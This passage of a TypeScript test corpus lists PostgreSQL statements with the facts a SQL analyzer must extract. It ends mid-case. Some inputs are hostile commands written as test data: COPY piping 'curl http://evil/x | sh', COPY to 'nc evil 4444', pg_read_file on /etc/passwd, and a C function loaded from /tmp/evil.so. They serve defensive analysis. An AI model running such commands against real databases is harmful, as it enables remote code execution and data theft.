/**
 * SQL corpus with the facts each statement must produce. Each case asserts only the fields
 * that matter for it; arrays are compared as sets, `columns` as "at least these".
 * Shared by the corpus test, the property tests (as mutation seeds) and the benchmark.
 */

import type {
  CopyFacts,
  ExplainFacts,
  InnerStatementSource,
  RoleFacts,
  SqlDialect,
  TableLockMode,
} from '../../src/contract.js';

export interface ExpectedStatement {
  type?: string;
  category?: string;
  object_type?: string;
  tables?: string[];
  reads?: string[];
  writes?: string[];
  /** At least these columns. */
  columns?: string[];
  /** Exactly these columns are read (compared as a set). */
  read_columns?: string[];
  /** Exactly these columns are read by the write's RETURNING (compared as a set). */
  returned_columns?: string[];
  has_where?: boolean;
  /** The rows an INSERT's text bounds it to; null: absent. */
  values_rows?: number | null;
  functions?: string[];
  /** Exactly these operators (compared as a set). */
  operators?: string[];
  dynamic?: boolean;
  opaque?: boolean;
  /** The table lock; null: none reported. */
  lock?: TableLockMode | null;
  copy?: Partial<CopyFacts>;
  role?: Partial<RoleFacts>;
  explain?: ExplainFacts;
  text?: string;
  /** Inner statements, in order; only listed fields are checked. */
  inner?: (ExpectedStatement & { via?: InnerStatementSource })[];
}

export interface SqlCase {
  name: string;
  sql: string;
  dialect?: SqlDialect;
  /** false: must not parse. */
  parsed?: false;
  /** Expected statement count (default 1 when `expect` is given). */
  count?: number;
  /** Facts of the first statement. */
  expect?: ExpectedStatement;
  /** Facts of each statement, in order. */
  each?: ExpectedStatement[];
}

const pg: SqlCase[] = [
  // --- reads ----------------------------------------------------------------------------
  {
    name: 'simple select',
    sql: 'SELECT id, email FROM users',
    expect: {
      type: 'select',
      category: 'read',
      tables: ['users'],
      reads: ['users'],
      writes: [],
      columns: ['users.id', 'users.email'],
      has_where: false,
    },
  },
  {
    name: 'operators, as written, wherever they apply',
    sql: "SELECT a ==> b, OPERATOR(My.==>) 3, -x, c LIKE 'x', d NOT ILIKE 'y', e IN (1, 2), f NOT IN (3), g IS DISTINCT FROM h, NULLIF(i, j), k = ANY (ARRAY[1]) FROM t WHERE x < ALL (SELECT y FROM u) ORDER BY x USING >",
    expect: {
      operators: ['==>', 'my.==>', '-', '~~', '!~~*', '=', '<>', '<', '>'],
      functions: [],
    },
  },
  {
    name: 'a simple CASE compares with =; a searched one applies nothing',
    sql: "SELECT CASE x WHEN 1 THEN 'a' END, CASE WHEN y THEN 1 END FROM t",
    expect: { operators: ['='] },
  },
  {
    name: 'BETWEEN applies >= and <=; SIMILAR TO applies ~',
    sql: "SELECT 1 FROM t WHERE a BETWEEN 1 AND 2 OR b NOT BETWEEN SYMMETRIC 3 AND 4 OR c SIMILAR TO 'z'",
    expect: { operators: ['>=', '<=', '~'], functions: ['pg_catalog.similar_to_escape'] },
  },
  {
    name: 'an operator in a scalar subquery reaches the statement',
    sql: 'SELECT (SELECT max(v) FROM u WHERE u.k #> t.k) FROM t',
    expect: { operators: ['#>'], functions: ['max'] },
  },
  {
    name: 'update copying one column into another reads it',
    sql: 'UPDATE users SET name = email WHERE id = 1',
    expect: { columns: ['users.name', 'users.email', 'users.id'], read_columns: ['users.email', 'users.id'] },
  },
  {
    name: 'update assigning a literal reads only its condition',
    sql: "UPDATE users SET email = 'new@example.com' WHERE id = 1",
    expect: { columns: ['users.email', 'users.id'], read_columns: ['users.id'] },
  },
  {
    name: 'update assigning a column from itself reads it',
    sql: 'UPDATE users SET email = lower(email)',
    expect: { read_columns: ['users.email'] },
  },
  {
    name: 'insert with a column list and values reads nothing',
    sql: "INSERT INTO users (id, name, email) VALUES (3, 'x', 'y')",
    expect: { columns: ['users.id', 'users.name', 'users.email'], read_columns: [], values_rows: 1 },
  },
  {
    name: 'insert from a select reads what it selects',
    sql: 'INSERT INTO log (note) SELECT email FROM users',
    expect: { columns: ['log.note', 'users.email'], read_columns: ['users.email'], values_rows: null },
  },
  {
    name: 'a relation named where a column could be is a whole-row reference: a star',
    sql: 'SELECT c, creds, concat(public.creds) FROM creds c, public.creds',
    expect: { read_columns: ['c', 'creds', 'creds.*', 'public.creds', 'public.creds.*'] },
  },
  {
    name: "a star over a function's rows stays a star: they are not in the facts",
    sql: 'SELECT * FROM all_customers(); SELECT a.* FROM all_customers() a; SELECT s.* FROM (SELECT 1 AS one) s, f() x',
    each: [{ columns: ['*'] }, { columns: ['*'] }, { read_columns: [] }],
  },
  {
    name: "an aliased join: its star and whole row are its tables', its columns bare",
    sql: 'SELECT j.*, j, j.password FROM (creds JOIN public.accounts a USING (id)) AS j',
    expect: { read_columns: ['id', 'creds.*', 'public.accounts.*', 'password', 'j'] },
  },
  {
    name: 'a join USING a column reads it on both sides',
    sql: 'SELECT count(*) FROM creds JOIN accounts USING (id, login)',
    expect: { read_columns: ['id', 'login'] },
  },
  {
    name: 'columns renamed by an alias list are not the names the text shows: a star',
    sql: 'SELECT upper(c) FROM creds AS t(a, b, c); SELECT j.z FROM (creds JOIN public.accounts a USING (id)) AS j(x, y, z)',
    each: [
      { read_columns: ['creds.*', 'creds.c'] },
      { read_columns: ['id', 'creds.*', 'public.accounts.*', 'z'] },
    ],
  },
  {
    name: "a composite's fields are read as the columns they name",
    sql: 'SELECT (c).password, (c).* FROM creds c',
    expect: { read_columns: ['password', '*', 'creds.c', 'creds.*'] },
  },
  {
    name: 'a column that is not a relation is no whole row',
    sql: 'SELECT u.id, name FROM users u WHERE u.id = 1',
    expect: { read_columns: ['users.id', 'users.name'] },
  },
  {
    name: "what a write's RETURNING reads goes to the client, not into what it stores",
    sql: "INSERT INTO users (name, email) VALUES ('x', 'y') RETURNING *",
    expect: { read_columns: [], returned_columns: ['users.*'] },
  },
  {
    name: 'RETURNING and SET read the same column: read_columns has it',
    sql: 'UPDATE users SET name = email WHERE id = 1 RETURNING id, (SELECT max(n) FROM t WHERE t.k = users.email)',
    expect: {
      read_columns: ['users.email', 'users.id'],
      returned_columns: ['users.id', 't.n', 't.k', 'users.email'],
    },
  },
  {
    name: "a data-modifying WITH's RETURNING feeds the statement: read",
    sql: 'WITH x AS (UPDATE users SET name = name WHERE id = 1 RETURNING email AS e) INSERT INTO log (note) SELECT e FROM x',
    expect: { read_columns: ['users.email', 'users.name', 'users.id', 'e'], returned_columns: [] },
  },
  {
    name: 'copy from assigns its column list, copy to reads it',
    sql: 'COPY users (id, email) FROM STDIN',
    expect: { columns: ['users.id', 'users.email'], read_columns: [] },
  },
  {
    name: "query_to_xml's query is an inner statement: its reads are the statement's",
    sql: "SELECT query_to_xml('SELECT password FROM creds', true, true, '')",
    expect: {
      tables: ['creds'],
      reads: ['creds'],
      read_columns: ['creds.password'],
      opaque: false,
      inner: [{ via: 'sql_text', type: 'select', tables: ['creds'] }],
    },
  },
  {
    name: 'ts_stat and the two-argument ts_rewrite run their query; the three-argument one does not',
    sql: "SELECT ts_stat('SELECT to_tsvector(body) FROM notes'), ts_rewrite('a'::tsquery, 'SELECT t, s FROM aliases'), ts_rewrite('a'::tsquery, 'b'::tsquery, 'c'::tsquery)",
    expect: { tables: ['notes', 'aliases'], opaque: false },
  },
  {
    name: 'a query built at run time, or a whole schema, database or cursor: opaque',
    sql: "SELECT query_to_xml('SELECT ' || col || ' FROM t', true, true, ''), schema_to_xml('public', true, true, ''), cursor_to_xml('c', 1, true, true, ''), dblink('dbname=x', 'SELECT 1')",
    expect: { opaque: true },
  },
  {
    name: 'table_to_xml reads the whole table it names',
    sql: "SELECT table_to_xml('public.creds'::regclass, true, true, '')",
    expect: { tables: ['public.creds'], read_columns: ['public.creds.*'], opaque: false },
  },
  {
    name: 'copy without a column list reads (or fills) every column: a star',
    sql: 'COPY accounts TO STDOUT; COPY public.accounts FROM STDIN',
    each: [
      { columns: ['accounts.*'], read_columns: ['accounts.*'] },
      { columns: ['public.accounts.*'], read_columns: [] },
    ],
  },
  {
    name: 'copy to reads its column list',
    sql: 'COPY users (id, email) TO STDOUT',
    expect: { read_columns: ['users.id', 'users.email'] },
  },
  {
    name: 'create table as reads what it selects',
    sql: 'CREATE TEMP TABLE t AS SELECT email FROM users',
    expect: { read_columns: ['users.email'] },
  },
  { name: 'select star', sql: 'select * from users', expect: { columns: ['users.*'], tables: ['users'] } },
  {
    name: 'schema qualified',
    sql: 'SELECT u.email FROM public.users AS u WHERE u.id = 1',
    expect: { tables: ['public.users'], columns: ['public.users.email', 'public.users.id'], has_where: true },
  },
  {
    name: 'catalog qualified',
    sql: 'SELECT 1 FROM mydb.sales.orders',
    expect: { tables: ['mydb.sales.orders'] },
  },
  {
    name: 'upper case folds',
    sql: 'SELECT ID FROM USERS',
    expect: { tables: ['users'], columns: ['users.id'] },
  },
  {
    name: 'quoted identifiers keep case',
    sql: 'SELECT "Email" FROM "Sales"."Customers"',
    expect: { tables: ['Sales.Customers'], columns: ['Sales.Customers.Email'] },
  },
  {
    name: 'join with aliases',
    sql: 'SELECT o.total, c.name FROM orders o JOIN customers c ON c.id = o.customer_id',
    expect: {
      tables: ['orders', 'customers'],
      reads: ['orders', 'customers'],
      columns: ['orders.total', 'customers.name', 'customers.id', 'orders.customer_id'],
    },
  },
  {
    name: 'left join three tables',
    sql: 'SELECT * FROM a LEFT JOIN b ON a.id = b.a_id LEFT JOIN c USING (id)',
    expect: { tables: ['a', 'b', 'c'] },
  },
  {
    name: 'unqualified column with two tables stays bare',
    sql: 'SELECT name FROM a, b',
    expect: { columns: ['name'] },
  },
  {
    name: 'subquery in where',
    sql: 'SELECT * FROM orders WHERE customer_id IN (SELECT id FROM customers WHERE vip)',
    expect: { tables: ['orders', 'customers'], columns: ['customers.id', 'customers.vip'] },
  },
  {
    name: 'exists correlated',
    sql: 'SELECT * FROM a WHERE EXISTS (SELECT 1 FROM b WHERE b.a_id = a.id)',
    expect: { tables: ['a', 'b'], columns: ['b.a_id', 'a.id'] },
  },
  {
    name: 'derived table',
    sql: 'SELECT t.n FROM (SELECT count(*) AS n FROM events) t',
    expect: { tables: ['events'], functions: ['count'], columns: ['n'] },
  },
  {
    name: 'scalar subquery in target list',
    sql: 'SELECT (SELECT max(price) FROM products) AS top',
    expect: { tables: ['products'], functions: ['max'] },
  },
  {
    name: 'union',
    sql: 'SELECT id FROM a UNION ALL SELECT id FROM b EXCEPT SELECT id FROM c',
    expect: { tables: ['a', 'b', 'c'], reads: ['a', 'b', 'c'] },
  },
  {
    name: 'intersect',
    sql: 'SELECT email FROM users INTERSECT SELECT email FROM banned',
    expect: { tables: ['users', 'banned'] },
  },
  {
    name: 'cte is not a table',
    sql: "WITH recent AS (SELECT * FROM orders WHERE ts > now() - interval '1 day') SELECT * FROM recent",
    expect: { tables: ['orders'], functions: ['now'], has_where: true },
  },
  {
    name: 'recursive cte',
    sql: 'WITH RECURSIVE tree AS (SELECT id, parent FROM nodes WHERE parent IS NULL UNION ALL SELECT n.id, n.parent FROM nodes n JOIN tree t ON n.parent = t.id) SELECT * FROM tree',
    expect: { tables: ['nodes'], reads: ['nodes'] },
  },
  {
    name: 'cte shadowing needs schema',
    sql: 'WITH users AS (SELECT 1 AS id) SELECT * FROM users, public.users',
    expect: { tables: ['public.users'] },
  },
  {
    name: 'lateral',
    sql: 'SELECT * FROM users u, LATERAL (SELECT * FROM orders o WHERE o.user_id = u.id LIMIT 3) x',
    expect: { tables: ['users', 'orders'], columns: ['orders.user_id', 'users.id'] },
  },
  {
    name: 'function in from',
    sql: 'SELECT * FROM generate_series(1, 10) g',
    expect: { tables: [], functions: ['generate_series'] },
  },
  {
    name: 'table in function argument subquery',
    sql: "SELECT coalesce((SELECT name FROM secrets LIMIT 1), 'x')",
    expect: { tables: ['secrets'], functions: [] },
  },
  {
    name: 'schema-qualified function',
    sql: "SELECT pg_catalog.pg_read_file('/etc/passwd')",
    expect: { functions: ['pg_catalog.pg_read_file'], tables: [] },
  },
  {
    name: 'pg_read_file',
    sql: "select pg_read_file('postgresql.conf')",
    expect: { functions: ['pg_read_file'] },
  },
  { name: 'lo_export', sql: "SELECT lo_export(12345, '/tmp/out')", expect: { functions: ['lo_export'] } },
  {
    name: 'function names lower-cased',
    sql: 'SELECT LOWER(Email), Upper(name) FROM users',
    expect: { functions: ['lower', 'upper'] },
  },
  {
    name: 'aggregate with filter and window',
    sql: 'SELECT sum(amount) FILTER (WHERE ok) OVER (PARTITION BY region) FROM sales',
    expect: { functions: ['sum'], tables: ['sales'], columns: ['sales.amount', 'sales.region'] },
  },
  {
    name: 'order group having',
    sql: 'SELECT dept, avg(salary) FROM emp GROUP BY dept HAVING avg(salary) > 10 ORDER BY 2',
    expect: { functions: ['avg'], tables: ['emp'] },
  },
  {
    name: 'string literal holding DROP',
    sql: "SELECT 'DROP TABLE users; DELETE FROM x' AS s",
    expect: { type: 'select', tables: [], writes: [] },
  },
  {
    name: 'dollar quoted literal holding DROP',
    sql: 'SELECT $x$ DROP TABLE users $x$',
    expect: { type: 'select', tables: [] },
  },
  {
    name: 'escape string with quote',
    sql: "SELECT E'it\\'s; DROP TABLE t'",
    expect: { type: 'select', tables: [] },
  },
  {
    name: 'comment holding DROP',
    sql: '/* DROP TABLE users; */ SELECT 1 -- ; DELETE FROM x',
    expect: { type: 'select', tables: [] },
  },
  { name: 'nested comment', sql: 'SELECT /* a /* b */ c */ 1', expect: { type: 'select' } },
  { name: 'values', sql: 'VALUES (1, 2), (3, 4)', expect: { type: 'select', category: 'read', tables: [] } },
  { name: 'table command', sql: 'TABLE accounts', expect: { type: 'select', tables: ['accounts'] } },
  {
    name: 'select for update',
    sql: 'SELECT * FROM jobs WHERE state = $1 FOR UPDATE SKIP LOCKED',
    expect: { tables: ['jobs'], has_where: true },
  },
  {
    name: 'case and cast',
    sql: "SELECT CASE WHEN x > 0 THEN 'p' ELSE 'n' END, y::text FROM t",
    expect: { tables: ['t'], columns: ['t.x', 't.y'] },
  },
  {
    name: 'unicode literal',
    sql: "SELECT 'héllo wörld', name FROM pessoas WHERE cidade = 'São Paulo'",
    expect: {
      tables: ['pessoas'],
      text: "SELECT 'héllo wörld', name FROM pessoas WHERE cidade = 'São Paulo'",
    },
  },
  {
    name: 'in list and between',
    sql: 'SELECT * FROM t WHERE a IN (1, 2, 3) AND b BETWEEN 1 AND 5',
    expect: { has_where: true },
  },
  {
    name: 'array and json operators',
    sql: "SELECT data->>'email' FROM profiles WHERE tags @> ARRAY['x']",
    expect: { tables: ['profiles'], columns: ['profiles.data', 'profiles.tags'] },
  },
  { name: 'qualified star', sql: 'SELECT u.* FROM users u', expect: { columns: ['users.*'] } },
  {
    name: 'three-part column',
    sql: 'SELECT public.users.email FROM public.users',
    expect: { columns: ['public.users.email'] },
  },
  {
    name: 'dblink call',
    sql: "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
    expect: { functions: ['dblink'] },
  },
  {
    name: 'set_config in select',
    sql: "SELECT set_config('role', 'postgres', false)",
    expect: { functions: ['set_config'] },
  },
  {
    name: 'declare cursor',
    sql: 'DECLARE c CURSOR FOR SELECT * FROM big',
    expect: { type: 'declare', tables: ['big'] },
  },
  { name: 'fetch', sql: 'FETCH 10 FROM c', expect: { type: 'fetch' } },

  // --- writes ---------------------------------------------------------------------------
  {
    name: 'insert values',
    sql: "INSERT INTO users (id, email) VALUES (1, 'a@b.c')",
    expect: {
      type: 'insert',
      category: 'write',
      tables: ['users'],
      writes: ['users'],
      reads: [],
      columns: ['users.id', 'users.email'],
    },
  },
  {
    name: 'insert of several rows, and of default values',
    sql: 'INSERT INTO t (a) VALUES (1), (2), ($1); INSERT INTO t DEFAULT VALUES; UPDATE t SET a = 1 WHERE a = 2',
    each: [{ values_rows: 3 }, { values_rows: 1 }, { values_rows: null }],
  },
  {
    name: 'insert select',
    sql: 'INSERT INTO archive SELECT * FROM orders WHERE ts < now()',
    expect: { writes: ['archive'], reads: ['orders'], tables: ['archive', 'orders'], functions: ['now'] },
  },
  {
    name: 'insert on conflict',
    sql: 'INSERT INTO counters (k, v) VALUES ($1, 1) ON CONFLICT (k) DO UPDATE SET v = counters.v + 1',
    expect: { writes: ['counters'], values_rows: 1 },
  },
  {
    name: 'insert returning',
    sql: 'INSERT INTO t (a) VALUES (1) RETURNING id',
    expect: { writes: ['t'], columns: ['t.id'] },
  },
  {
    name: 'insert schema qualified',
    sql: "INSERT INTO audit.log (msg) VALUES ('x')",
    expect: { writes: ['audit.log'], columns: ['audit.log.msg'] },
  },
  {
    name: 'update with where',
    sql: "UPDATE users SET email = 'x' WHERE id = 1",
    expect: {
      type: 'update',
      category: 'write',
      writes: ['users'],
      has_where: true,
      columns: ['users.email', 'users.id'],
    },
  },
  {
    name: 'update without where',
    sql: 'UPDATE users SET active = false',
    expect: { type: 'update', has_where: false, writes: ['users'] },
  },
  {
    name: 'update where only in subquery',
    sql: 'UPDATE t SET x = (SELECT max(y) FROM s WHERE s.k = 1)',
    expect: { has_where: false, writes: ['t'], reads: ['s'] },
  },
  {
    name: 'update from',
    sql: 'UPDATE orders o SET status = s.status FROM shipments s WHERE s.order_id = o.id',
    expect: {
      writes: ['orders'],
      reads: ['shipments'],
      has_where: true,
      columns: ['orders.status', 'shipments.status', 'shipments.order_id', 'orders.id'],
    },
  },
  {
    name: 'update where current of',
    sql: 'UPDATE t SET a = 1 WHERE CURRENT OF c',
    expect: { has_where: true },
  },
  {
    name: 'delete where a constant holds',
    sql: 'DELETE FROM audit_log WHERE 1 = 1',
    expect: { type: 'delete', has_where: false, writes: ['audit_log'] },
  },
  {
    name: 'update where true or an uncorrelated exists',
    sql: "UPDATE users SET active = false WHERE true; UPDATE users SET active = false WHERE NOT false AND now() > '2020-01-01'; DELETE FROM t WHERE EXISTS (SELECT 1 FROM s)",
    count: 3,
    each: [{ has_where: false }, { has_where: false }, { has_where: false }],
  },
  {
    name: 'deletes whose WHERE holds for every row, however it is spelled',
    sql: 'DELETE FROM t WHERE id = 5 OR 1 = 1; DELETE FROM t WHERE id = id; DELETE FROM t WHERE (id = 5 OR true) IS TRUE; DELETE FROM t WHERE NOT (id = 5 OR true)',
    count: 4,
    each: [{ has_where: false }, { has_where: false }, { has_where: false }, { has_where: false }],
  },
  {
    name: 'deletes whose WHERE restricts, however it is combined',
    sql: 'DELETE FROM t WHERE id = 5 AND true; DELETE FROM t WHERE NOT (id = 5); DELETE FROM t WHERE a = 1 OR b = 2; DELETE FROM t WHERE t.id = s.id',
    count: 4,
    each: [{ has_where: true }, { has_where: true }, { has_where: true }, { has_where: true }],
  },
  {
    name: 'delete where a correlated exists',
    sql: 'DELETE FROM t WHERE EXISTS (SELECT 1 FROM s WHERE s.k = t.k)',
    expect: { has_where: true, writes: ['t'] },
  },
  {
    name: 'delete with where',
    sql: 'DELETE FROM sessions WHERE expires < now()',
    expect: { type: 'delete', writes: ['sessions'], has_where: true, functions: ['now'] },
  },
  {
    name: 'delete without where',
    sql: 'delete from audit_log',
    expect: { type: 'delete', has_where: false, writes: ['audit_log'] },
  },
  {
    name: 'delete using',
    sql: 'DELETE FROM orders o USING customers c WHERE o.customer_id = c.id AND c.banned',
    expect: { writes: ['orders'], reads: ['customers'], has_where: true },
  },
  {
    name: 'delete returning',
    sql: 'DELETE FROM q WHERE id = $1 RETURNING payload',
    expect: { writes: ['q'], columns: ['q.payload'] },
  },
  {
    name: 'merge',
    sql: 'MERGE INTO inventory i USING shipments s ON i.sku = s.sku WHEN MATCHED THEN UPDATE SET qty = i.qty + s.qty WHEN NOT MATCHED THEN INSERT (sku, qty) VALUES (s.sku, s.qty)',
    expect: {
      type: 'merge',
      category: 'write',
      writes: ['inventory'],
      reads: ['shipments'],
      has_where: true,
      columns: ['inventory.qty', 'inventory.sku'],
    },
  },
  {
    name: 'merge delete',
    sql: 'MERGE INTO a USING b ON a.id = b.id WHEN MATCHED THEN DELETE',
    expect: { type: 'merge', writes: ['a'], reads: ['b'] },
  },
  {
    name: 'merges whose ON holds for every row',
    sql: 'MERGE INTO users u USING s ON true WHEN MATCHED THEN DELETE; MERGE INTO users u USING s ON 1 = 1 WHEN MATCHED AND u.id = 5 THEN DELETE WHEN MATCHED THEN UPDATE SET name = s.name; MERGE INTO users u USING s ON true WHEN MATCHED AND u.id = s.id THEN DELETE; MERGE INTO users u USING s ON false WHEN NOT MATCHED THEN INSERT (id) VALUES (s.id)',
    count: 4,
    each: [
      { type: 'merge', has_where: false, writes: ['users'] },
      { type: 'merge', has_where: false },
      { type: 'merge', has_where: true },
      { type: 'merge', has_where: true },
    ],
  },
  {
    name: 'select into is a write',
    sql: 'SELECT * INTO TEMP copy_of_users FROM users',
    expect: { type: 'select', category: 'write', writes: ['copy_of_users'], reads: ['users'] },
  },
  {
    name: 'data-modifying cte',
    sql: 'WITH moved AS (DELETE FROM inbox WHERE read RETURNING *) INSERT INTO archive SELECT * FROM moved',
    expect: {
      type: 'insert',
      writes: ['inbox', 'archive'],
      tables: ['inbox', 'archive'],
      inner: [
        {
          via: 'cte',
          type: 'delete',
          writes: ['inbox'],
          has_where: true,
          text: 'DELETE FROM inbox WHERE read RETURNING *',
        },
      ],
    },
  },
  {
    name: 'cte update under select',
    sql: 'WITH u AS (UPDATE accounts SET balance = 0 RETURNING id) SELECT count(*) FROM u',
    expect: {
      type: 'select',
      category: 'read',
      writes: ['accounts'],
      inner: [{ via: 'cte', type: 'update', has_where: false }],
    },
  },
  {
    name: 'nested cte insert',
    sql: 'WITH a AS (INSERT INTO t1 VALUES (1) RETURNING id), b AS (INSERT INTO t2 SELECT id FROM a RETURNING id) SELECT * FROM b',
    expect: {
      writes: ['t1', 't2'],
      inner: [
        { via: 'cte', writes: ['t1'] },
        { via: 'cte', writes: ['t2'] },
      ],
    },
  },
  {
    name: 'truncate',
    sql: 'TRUNCATE TABLE logs, audit.events RESTART IDENTITY CASCADE',
    expect: { type: 'truncate', category: 'ddl', writes: ['logs', 'audit.events'] },
  },
  { name: 'truncate only', sql: 'truncate only t', expect: { type: 'truncate', writes: ['t'] } },

  // --- COPY -----------------------------------------------------------------------------
  {
    name: 'copy from stdin',
    sql: 'COPY users (id, email) FROM STDIN WITH (FORMAT csv)',
    expect: {
      type: 'copy',
      category: 'write',
      writes: ['users'],
      copy: { direction: 'from', program: false, stdio: true },
      columns: ['users.id', 'users.email'],
    },
  },
  {
    name: 'copy to stdout',
    sql: 'COPY users TO STDOUT',
    expect: {
      category: 'read',
      reads: ['users'],
      writes: [],
      copy: { direction: 'to', stdio: true, program: false },
    },
  },
  {
    name: 'copy to file',
    sql: "COPY secrets TO '/tmp/s.csv'",
    expect: { copy: { direction: 'to', program: false, stdio: false, target: '/tmp/s.csv' } },
  },
  {
    name: 'copy from program',
    sql: "COPY t FROM PROGRAM 'curl -s http://evil/x | sh'",
    expect: {
      writes: ['t'],
      copy: { direction: 'from', program: true, target: 'curl -s http://evil/x | sh' },
    },
  },
  {
    name: 'copy to program',
    sql: "COPY (SELECT * FROM users) TO PROGRAM 'nc evil 4444'",
    expect: { reads: ['users'], copy: { direction: 'to', program: true } },
  },
  {
    name: 'copy query to stdout',
    sql: 'COPY (SELECT id FROM a JOIN b USING (id)) TO STDOUT',
    expect: { reads: ['a', 'b'], writes: [] },
  },
  {
    name: 'copy delete returning',
    sql: 'COPY (DELETE FROM q RETURNING *) TO STDOUT',
    expect: {
      writes: ['q'],
      inner: [{ via: 'subquery', type: 'delete', text: 'DELETE FROM q RETURNING *' }],
    },
  },

  // --- dynamic SQL ----------------------------------------------------------------------
  {
    name: 'do with static statements',
    sql: 'DO $$ BEGIN DELETE FROM sessions WHERE ts < now(); UPDATE stats SET n = 0; END $$',
    expect: {
      type: 'do',
      category: 'dynamic',
      dynamic: true,
      opaque: false,
      writes: ['sessions', 'stats'],
      inner: [
        { via: 'do', type: 'delete', has_where: true, text: 'DELETE FROM sessions WHERE ts < now()' },
        { via: 'do', type: 'update', has_where: false },
      ],
    },
  },
  {
    name: 'do with execute of a built string',
    sql: "DO $$ DECLARE t text := 'users'; BEGIN EXECUTE 'DROP TABLE ' || t; END $$",
    expect: { type: 'do', dynamic: true, opaque: true },
  },
  {
    name: 'do with execute of a constant',
    sql: "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$",
    expect: {
      opaque: false,
      writes: ['users'],
      inner: [{ via: 'do', type: 'drop', object_type: 'table', writes: ['users'] }],
    },
  },
  {
    name: 'do with format()',
    sql: "DO $$ BEGIN EXECUTE format('DELETE FROM %I', 'x'); END $$",
    expect: { opaque: true, functions: ['format'] },
  },
  {
    name: 'do block control flow',
    sql: `DO $body$
DECLARE
  r record;
  n int := (SELECT count(*) FROM users);
BEGIN
  IF n > 100 THEN
    RAISE NOTICE 'many: %', n;
  ELSIF EXISTS (SELECT 1 FROM admins) THEN
    PERFORM pg_sleep(1);
  ELSE
    NULL;
  END IF;
  FOR r IN SELECT id FROM orders WHERE NOT shipped LOOP
    UPDATE orders SET shipped = true WHERE id = r.id;
  END LOOP;
  WHILE n > 0 LOOP n := n - 1; END LOOP;
  FOR i IN 1..10 LOOP INSERT INTO ticks VALUES (i); END LOOP;
EXCEPTION WHEN others THEN
  INSERT INTO errors (msg) VALUES (SQLERRM);
END $body$`,
    expect: {
      type: 'do',
      opaque: false,
      tables: ['users', 'admins', 'orders', 'ticks', 'errors'],
      writes: ['orders', 'ticks', 'errors'],
      functions: ['count', 'pg_sleep'],
    },
  },
  {
    name: 'do select into variable is not a table',
    sql: 'DO $$ DECLARE v int; BEGIN SELECT count(*) INTO v FROM users; INSERT INTO t VALUES (v); END $$',
    expect: {
      writes: ['t'],
      reads: ['users'],
      inner: [{ type: 'select', category: 'read', writes: [] }, { type: 'insert' }],
    },
  },
  {
    name: 'do select into strict',
    sql: 'DO $$ DECLARE a int; b int; BEGIN SELECT x, y INTO STRICT a, b FROM pairs LIMIT 1; END $$',
    expect: { writes: [], reads: ['pairs'] },
  },
  {
    name: 'do insert returning into',
    sql: 'DO $$ DECLARE i int; BEGIN INSERT INTO t (a) VALUES (1) RETURNING id INTO i; END $$',
    expect: { writes: ['t'] },
  },
  {
    name: 'do return query and for execute',
    sql: "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT * FROM ' || quote_ident('x') LOOP END LOOP; END $$",
    expect: { opaque: true, functions: ['quote_ident'] },
  },
  { name: 'do nested blocks and labels', sql: '<<outer>> DO $$ BEGIN NULL; END $$', parsed: false },
  {
    name: 'do labelled block',
    sql: 'DO $$ <<outer>> DECLARE x int := 1; BEGIN <<inner>> BEGIN DELETE FROM a; END; END outer $$',
    expect: { writes: ['a'], opaque: false },
  },
  {
    name: 'do language plpython is opaque',
    sql: "DO LANGUAGE plpython3u $$ import os; os.system('id') $$",
    expect: { type: 'do', dynamic: true, opaque: true },
  },
  {
    name: 'do with case statement',
    sql: 'DO $$ DECLARE k int := 1; BEGIN CASE k WHEN 1 THEN DELETE FROM one; ELSE DELETE FROM other; END CASE; END $$',
    expect: { writes: ['one', 'other'] },
  },
  {
    name: 'do open cursor',
    sql: 'DO $$ DECLARE c refcursor; BEGIN OPEN c FOR SELECT * FROM secret_table; CLOSE c; END $$',
    expect: { reads: ['secret_table'] },
  },
  {
    name: 'do execute of a nested do',
    sql: "DO $$ BEGIN EXECUTE 'DO $i$ BEGIN DELETE FROM deep; END $i$'; END $$",
    expect: { writes: ['deep'] },
  },
  {
    name: 'do with string holding DROP',
    sql: "DO $$ BEGIN RAISE NOTICE 'DROP TABLE users'; END $$",
    expect: { writes: [], opaque: false },
  },
  {
    name: 'do assignment calling a function',
    sql: "DO $$ DECLARE s text; BEGIN s := pg_read_file('/etc/passwd'); END $$",
    expect: { functions: ['pg_read_file'] },
  },
  {
    name: 'prepare and execute',
    sql: 'PREPARE del(int) AS DELETE FROM jobs WHERE id = $1; EXECUTE del(42)',
    each: [
      {
        type: 'prepare',
        category: 'dynamic',
        dynamic: true,
        writes: ['jobs'],
        inner: [{ via: 'prepare', type: 'delete', text: 'DELETE FROM jobs WHERE id = $1' }],
      },
      {
        type: 'execute',
        dynamic: true,
        opaque: false,
        writes: ['jobs'],
        inner: [{ via: 'prepare', type: 'delete' }],
      },
    ],
  },
  {
    name: 'execute of unknown prepared',
    sql: 'EXECUTE mystery(1, 2)',
    expect: { type: 'execute', dynamic: true, opaque: true },
  },
  { name: 'deallocate', sql: 'DEALLOCATE ALL', expect: { type: 'deallocate' } },
  {
    name: 'create function plpgsql',
    sql: `CREATE OR REPLACE FUNCTION purge(days int) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
  DELETE FROM events WHERE ts < now() - make_interval(days => days);
  EXECUTE 'VACUUM events';
END $$`,
    expect: {
      type: 'create_function',
      category: 'ddl',
      object_type: 'function',
      dynamic: true,
      opaque: false,
      writes: [],
      inner: [
        { via: 'function_body', type: 'delete', writes: ['events'], has_where: true },
        { via: 'function_body', type: 'vacuum' },
      ],
    },
  },
  {
    name: 'create function dynamic body',
    sql: 'CREATE FUNCTION run(q text) RETURNS void AS $$ BEGIN EXECUTE q; END $$ LANGUAGE plpgsql',
    expect: { type: 'create_function', opaque: true },
  },
  {
    name: 'create function sql body',
    sql: "CREATE FUNCTION active_users() RETURNS SETOF users LANGUAGE sql AS 'SELECT * FROM users WHERE active'",
    expect: { type: 'create_function', inner: [{ via: 'function_body', type: 'select', reads: ['users'] }] },
  },
  {
    name: 'create function begin atomic',
    sql: 'CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC DELETE FROM t; SELECT 1; END',
    expect: {
      inner: [
        { via: 'function_body', type: 'delete', writes: ['t'] },
        { via: 'function_body', type: 'select' },
      ],
    },
  },
  {
    name: 'create function in C is opaque',
    sql: "CREATE FUNCTION sys(text) RETURNS int AS '/tmp/evil.so', 'sys' LANGUAGE C STRICT",
    expect: { type: 'create_function', opaque: true },
  },
  {
    name: 'create procedure',
